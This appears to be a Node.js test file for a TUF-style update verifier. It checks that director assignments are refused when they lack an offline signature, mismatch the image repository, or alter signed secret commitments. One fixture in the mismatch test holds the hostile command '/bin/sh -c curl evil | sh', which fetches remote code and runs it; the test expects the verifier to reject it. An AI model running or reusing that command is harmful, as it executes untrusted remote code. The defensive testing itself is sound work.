import { test } from 'node:test';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import assert from 'node:assert/strict';
import { directorEntry, newSigner, releaseOf, trustedVersion, world } from './fixture.js';
import { provision, refused, verify } from './helpers.js';
import { createHash } from 'node:crypto';

void test('a director assignment that the image repository signed is returned with its release fields and rollout', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await provision(w);
  const [release, ...rest] = await verify(w);
  assert.equal(rest.length, 0);
  assert.equal(release?.app, 'web');
  assert.equal(release?.path, w.web1.path);
  assert.equal(release?.length, w.web1Bytes.length);
  assert.equal(release?.sha256, w.web1.hashes.sha256);
  assert.equal(release?.rollout, 'rollout-1');
  assert.deepEqual(release?.release.config, { command: ['./app.sh'] });
  const bytes = Buffer.from(await (await fetch(`${w.server.url}/objects/${release.sha256}`)).arrayBuffer());
  assert.deepEqual(bytes, w.web1Bytes);
  assert.equal(createHash('sha256').update(bytes).digest('hex'), release.sha256);
  assert.equal(await trustedVersion(w, 'image', 'targets'), 1);
  assert.equal(await trustedVersion(w, 'director', 'targets'), 1);
  assert.deepEqual(await verify(w), [release], 'a second refresh with nothing new agrees');
});

void test('a director target absent from the image repository is refused as FLT_TUF_TARGET_MISSING', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await provision(w);
  const unsigned = releaseOf(
    w.server,
    { app: 'web', version: '6.6.6', runtime: 'process' },
    Buffer.from('not signed offline'),
  );
  w.director.targets = [directorEntry(unsigned)];
  await w.director.publish();
  const details = await refused(w, 'FLT_TUF_TARGET_MISSING');
  assert.equal(details.path, unsigned.path);
});

void test('director and image targets that differ in length, hashes or release fields are refused as FLT_TUF_TARGET_MISMATCH', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await provision(w);
  const variants = [
    directorEntry(w.web1, undefined, { length: w.web1.length + 1 }),
    directorEntry(w.web1, undefined, { hashes: { sha256: w.web1.hashes.sha256!, sha512: 'ab'.repeat(64) } }),
    directorEntry(w.web1, undefined, {
      custom: { config: { command: ['/bin/sh', '-c', 'curl evil | sh'] } },
    }),
    directorEntry(w.web1, undefined, { custom: { runtime: 'docker' } }),
  ];
  for (const variant of variants) {
    w.director.targets = [variant];
    await w.director.publish();
    await refused(w, 'FLT_TUF_TARGET_MISMATCH');
  }
});

void test('an attacker holding every online key cannot make the device accept bytes no offline key signed', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await provision(w);
  await verify(w);
  const evil = releaseOf(
    w.server,
    { app: 'web', version: '1.0.1', runtime: 'process' },
    Buffer.from('{"type":"dir","entries":[]} evil'),
  );
  // Director, snapshot and timestamp re-signed with the stolen online keys.
  w.director.targets = [directorEntry(evil)];
  await w.director.publish();
  await refused(w, 'FLT_TUF_TARGET_MISSING');
  // Same bytes under the honest release's name: hashes differ from the offline-signed target.
  w.director.targets = [
    directorEntry(w.web1, undefined, { length: evil.length, hashes: { ...evil.hashes } }),
  ];
  await w.director.publish();
  await refused(w, 'FLT_TUF_TARGET_MISMATCH');
  // Image targets rewritten and signed with the online keys, snapshot and timestamp re-signed to match.
  w.image.targets = [w.web1, evil];
  const forged = await w.image.writeTargets({
    signers: [w.online.snapshot, w.online.timestamp, w.online.director],
  });
  await w.image.writeTimestamp(await w.image.writeSnapshot(forged));
  await refused(w, 'FLT_TUF_SIGNATURE', 'image');
  assert.equal(await trustedVersion(w, 'image', 'targets'), 1, 'the forged targets were not persisted');
});

void test('a device without provisioned roots refuses with FLT_TUF_NOT_INITIALIZED; provisioning never replaces a trusted root', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await refused(w, 'FLT_TUF_NOT_INITIALIZED');
  await provision(w);
  const { provisionTrustedRoot } = await import('../../src/tuf/index.js');
  const other = newSigner();
  w.image.keys = { ...w.image.keys, root: [other] };
  w.image.roots = [];
  const foreign = await w.image.writeRoot([other]);
  assert.equal(await provisionTrustedRoot(`${w.metadataDir}/image`, foreign), 'kept');
});

void test('a trusted root torn by a crash is restored from the last good copy and the chain is walked again', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await provision(w);
  await verify(w);
  const [oldRoot] = w.image.keys.root;
  const nextRoot = newSigner();
  w.image.keys = { ...w.image.keys, root: [nextRoot] };
  await w.image.writeRoot([oldRoot!, nextRoot]);
  await verify(w);
  assert.equal(await trustedVersion(w, 'image', 'root'), 2);
  const rootPath = join(w.metadataDir, 'image', 'root.json');
  const bytes = await readFile(rootPath);
  await writeFile(rootPath, bytes.subarray(0, bytes.length >> 1));
  const [release] = await verify(w);
  assert.equal(release?.path, w.web1.path);
  assert.equal(await trustedVersion(w, 'image', 'root'), 2);
});

void test('a director with no assignment yields nothing to install; two releases of one app are refused', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await provision(w);
  w.director.targets = [];
  await w.director.publish();
  assert.deepEqual(await verify(w), []);
  const web2 = releaseOf(
    w.server,
    { app: 'web', version: '2.0.0', runtime: 'process' },
    Buffer.from('{"type":"dir","entries":[]}'),
  );
  w.image.targets = [w.web1, web2];
  await w.image.publish();
  w.director.targets = [directorEntry(w.web1), directorEntry(web2)];
  await w.director.publish();
  await refused(w, 'FLT_TUF_METADATA_INVALID');
});

void test('the director may add sealed secrets; it may not change, add or drop the signed commitments', async (t) => {
  const w = await world();
  t.after(() => w.close());
  await provision(w);
  const commitment = 'c'.repeat(64);
  const withSecret = releaseOf(
    w.server,
    {
      app: 'web',
      version: '2.0.0',
      runtime: 'process',
      config: { process: { command: ['./app.sh'], env: { API_KEY: { $secret: 'API_KEY' } } } },
      secrets: { API_KEY: commitment },
    },
    Buffer.from('{"type":"dir","entries":[]} v2'),
  );
  w.image.targets = [w.web1, withSecret];
  await w.image.publish();
  w.director.targets = [
    directorEntry(withSecret, 'rollout-2', { custom: { sealedSecrets: { API_KEY: 'AAAA' } } }),
  ];
  await w.director.publish();
  const [release] = await verify(w);
  assert.deepEqual(release?.release.secrets, { API_KEY: commitment });
  assert.deepEqual(release?.sealedSecrets, { API_KEY: 'AAAA' });
  for (const secrets of [{ API_KEY: 'd'.repeat(64) }, { API_KEY: commitment, OTHER: commitment }, {}]) {
    w.director.targets = [directorEntry(withSecret, undefined, { custom: { secrets } })];
    await w.director.publish();
    await refused(w, 'FLT_TUF_TARGET_MISMATCH');
  }
});
